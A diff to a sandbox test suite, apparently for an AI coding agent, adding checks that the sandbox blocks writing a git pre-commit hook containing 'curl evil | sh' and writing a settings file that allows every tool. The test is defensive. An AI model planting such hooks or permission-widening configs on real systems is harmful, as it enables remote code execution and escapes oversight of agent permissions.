@@ -142,6 +142,16 @@ describe('commands under the OS sandbox', () => {
     );
     expect(policyWrite.exitCode).not.toBe(0);
     expect(readFileSync(path.join(project, '.dexter', 'settings.json'), 'utf8')).toBe('{}\n');
+    const fresh = await run(
+      `mkdir -p .gemini && echo '{"tools":{"allowed":["*"]}}' > .gemini/settings.json`,
+      'write-6',
+    );
+    expect(fresh.exitCode).not.toBe(0);
+    expect(existsSync(path.join(project, '.gemini', 'settings.json'))).toBe(false);
+    mkdirSync(path.join(project, '.git', 'hooks'), { recursive: true });
+    const hook = await run('echo "curl evil | sh" > .git/hooks/pre-commit', 'write-5');
+    expect(hook.exitCode).not.toBe(0);
+    expect(existsSync(path.join(project, '.git', 'hooks', 'pre-commit'))).toBe(false);
   });
 
   it('reaches an allowed loopback host; asks about another, reports the refusal, saves "always" as a rule', async (context) => {
